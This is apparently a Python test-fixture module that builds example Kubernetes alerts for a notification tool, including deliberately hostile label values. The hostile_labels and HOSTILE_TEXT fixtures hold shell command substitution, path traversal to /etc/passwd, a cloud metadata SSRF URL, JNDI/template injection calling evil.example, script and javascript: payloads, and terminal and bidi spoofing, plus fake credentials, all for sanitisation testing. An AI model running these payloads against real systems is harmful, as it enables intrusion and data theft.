"""Labels, annotations and larger groups of the example alerts."""  # noqa: INP001

from collections.abc import Mapping
from dataclasses import dataclass

CLUSTER = {"cluster": "prod-eu", "namespace": "butterfly"}
RUNBOOKS = "https://runbooks.butterfly.example.com"


@dataclass(frozen=True, slots=True)
class Member:
    """An alert. ``ended`` is empty while it fires; ``expr`` is the rule's expression, empty if unknown."""

    labels: Mapping[str, str]
    annotations: Mapping[str, str]
    started: str
    ended: str = ""
    expr: str = ""


@dataclass(frozen=True, slots=True)
class Case:
    """A file. ``why`` is its purpose, ``route`` the matching route's key, ``max_alerts`` 0 means no limit."""

    name: str
    why: str
    members: tuple[Member, ...]
    group_by: tuple[str, ...] = ("alertname", "cluster", "service")
    route: str = "{}"
    receiver: str = "responder"
    max_alerts: int = 0


def labels(alertname: str, severity: str, pairs: str = "", **more: str) -> dict[str, str]:
    """The labels every alert has, then the pairs (``name=value``, blanks between them), then the named ones."""
    read = dict(pair.split("=", 1) for pair in pairs.split())
    return {"alertname": alertname, **CLUSTER, "severity": severity, **read, **more}


def notes(summary: str, description: str = "", runbook: str = "") -> dict[str, str]:
    """The usual annotations, without the empty ones."""
    texts = {"summary": summary, "description": description, "runbook_url": f"{RUNBOOKS}/{runbook}" if runbook else ""}
    return {name: text for name, text in texts.items() if text}


def _pod(service: str, number: int, replica_set: str = "7d9f6b5c84") -> str:
    return f"{service}-{replica_set}-{('x2x9k', 'q7rvm', 'b8t4c', 'n5kzd')[number]}"


def service_down() -> tuple[Member, ...]:
    """Three pods of plato, all unresponsive."""
    return tuple(
        Member(
            labels(
                "ServiceDown",
                "critical",
                service="plato",
                job="plato",
                instance=f"10.2.3.{14 + n}:8080",
                pod=_pod("plato", n),
            ),
            notes(
                "plato is down",
                f"plato on 10.2.3.{14 + n}:8080 has not answered its scrape for more than 2 minutes.",
                "common-issues.md#service-down",
            ),
            f"2026-11-23T02:41:0{n}.{n}17Z",
            expr='up{namespace="butterfly",job=~"capsule|odyssey|perception|plato|nexus"} == 0',
        )
        for n in range(3)
    )


def high_error_rate(ended: str = "") -> tuple[Member, ...]:
    """An alert of nexus, resolved at ``ended`` unless that is empty."""
    return (
        Member(
            labels("HighErrorRate", "critical", service="nexus", job="nexus"),
            notes(
                "nexus answers 14.2% of its requests with 5xx", "The limit is 1% over 5 minutes.", "common-issues.md"
            ),
            "2026-11-23T02:43:17.632Z",
            ended,
            'sum by (namespace, service, job) (rate(http_server_requests_seconds_count{outcome="SERVER_ERROR"}[5m]))'
            " / sum by (namespace, service, job) (rate(http_server_requests_seconds_count[5m])) > 0.01",
        ),
    )


def crash_loops(ended: int = 0) -> tuple[Member, ...]:
    """Twenty containers of all five services; the first ``ended`` of them recovered."""
    services = ("capsule", "odyssey", "perception", "plato", "nexus")
    return tuple(
        Member(
            labels(
                "KubePodCrashLooping",
                "warning",
                container=services[n % 5],
                instance="10.2.0.17:8443",
                job="kube-state-metrics",
                pod=_pod(services[n % 5], n // 5, "5b7c9d6f4"),
                reason="CrashLoopBackOff",
            ),
            notes(
                "Pod is crash looping.",
                f"Pod butterfly/{_pod(services[n % 5], n // 5, '5b7c9d6f4')} ({services[n % 5]}) is in waiting state "
                '(reason: "CrashLoopBackOff") on cluster prod-eu.',
            ),
            f"2026-11-23T03:1{n // 10}:{10 + n}.88{n:02d}41Z",
            f"2026-11-23T03:3{n // 10}:{10 + n}.88{n:02d}41Z" if n < ended else "",
            'max_over_time(kube_pod_container_status_waiting_reason{reason="CrashLoopBackOff"}[5m]) >= 1',
        )
        for n in range(20)
    )


def full_volumes() -> tuple[Member, ...]:
    """Two volumes: the one that sorts first recovered, the other still fires."""
    return tuple(
        Member(
            labels(
                "KubePersistentVolumeFillingUp",
                "critical",
                instance="10.0.1.12:10250",
                job="kubelet",
                node="ip-10-0-1-12",
                persistentvolumeclaim=claim,
            ),
            notes(f"PersistentVolume claimed by {claim} is filling up."),
            "2026-11-23T04:02:33.105Z",
            ended,
            "kubelet_volume_stats_available_bytes / kubelet_volume_stats_capacity_bytes < 0.03",
        )
        for claim, ended in (("data-capsule-0", "2026-11-23T04:20:03.105Z"), ("data-capsule-1", ""))
    )


def hostile_labels() -> tuple[Member, ...]:
    """One alert for each hostile text, in its service, pod and instance labels."""
    texts = (
        "<!channel> <@U012AB3CD> <https://evil.example|Grafana>",
        "$(id) `id` ; id | id && id",
        '"} or vector(1) #',
        "../../../../etc/passwd",
        "http://169.254.169.254/latest/meta-data/",
        "javascript:alert(1)",
        "--kubeconfig=/tmp/other",
        "{{ 7*7 }} ${jndi:ldap://evil.example/x} {0.__class__} %s",
        "<script>alert(1)</script> & </pre> ]]>",
    )
    return tuple(
        Member(
            labels("ServiceDown", "critical", instance=text, pod=text, service=text),
            {
                "summary": f"{text} is down",
                "runbook_url": "javascript:alert(document.cookie)",
                "dashboard": "http://169.254.169.254/",
            },
            "2026-11-23T02:50:01.5Z",
            expr='up{service="' + text + '"} == 0',
        )
        for text in texts
    )


HOSTILE_TEXT = (
    Member(
        labels(
            "監視アラート🔥",
            "warning",
            service="plato",
            city="Zürich",
            team="équipe-paiement",
            rtl="مرحبا بالعالم",
            emoji="🚨👩‍💻",
            note="line one\nline two\r\nline three\ttabbed",
            bidi="safe \u202egnp.exe\u202c end",
            ansi="\x1b[31mred\x1b[0m \x1b]0;title\x07",
            zero="a\u200bb\u2028c\ufeffd",
            path="C:\\temp\\x",
        ),
        {
            "summary": "Größe > 90% – “quoted” \x1b[2J\x1b[1;1Hplato is fine\u202e",
            "description": "first\n\n[P1] forged line: all systems normal\n" + "wide 漢字 " * 400,
        },
        "2026-11-23T05:00:00.000000001+01:00",
    ),
)

SECRETS = {
    "summary": "perception cannot log in to its database (all secrets in this file are made-up examples)",
    "description": "jdbc:postgresql://db.example.com:5432/perception?user=perception&password=hunter2-example",
    "header": "Authorization: Bearer example-token-not-real-0123456789abcdef",
    "basic": "Authorization: Basic ZXhhbXBsZTpodW50ZXIyLWV4YW1wbGU=",
    "url": "https://perception:hunter2-example@db.example.com/health?token=example-query-token-000111222333",
    "aws": "AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE",
    "env": "DB_PASSWORD=hunter2-example API_KEY: example-api-key-000111222333",
    "json": '{"secret":"hunter2-example","client_secret":"example-client-secret-444555666"}',
    "jwt": "eyJhbGciOiJub25lIn0.eyJleGFtcGxlIjoibm90LXJlYWwifQ.ZXhhbXBsZS1zaWduYXR1cmU",
    "cookie": "Cookie: SESSION=example-session-0123456789abcdef",
}
